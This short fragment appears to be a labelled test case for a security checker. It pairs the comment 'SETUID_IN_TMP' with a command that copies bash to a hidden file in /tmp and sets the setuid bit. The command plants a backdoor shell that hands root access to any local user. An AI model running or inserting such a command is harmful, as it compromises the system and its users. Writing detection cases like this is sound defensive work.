# A program in a temporary folder runs as root for everybody.
# case: security SETUID_IN_TMP
cp /bin/bash /tmp/.b && chmod 4755 /tmp/.b
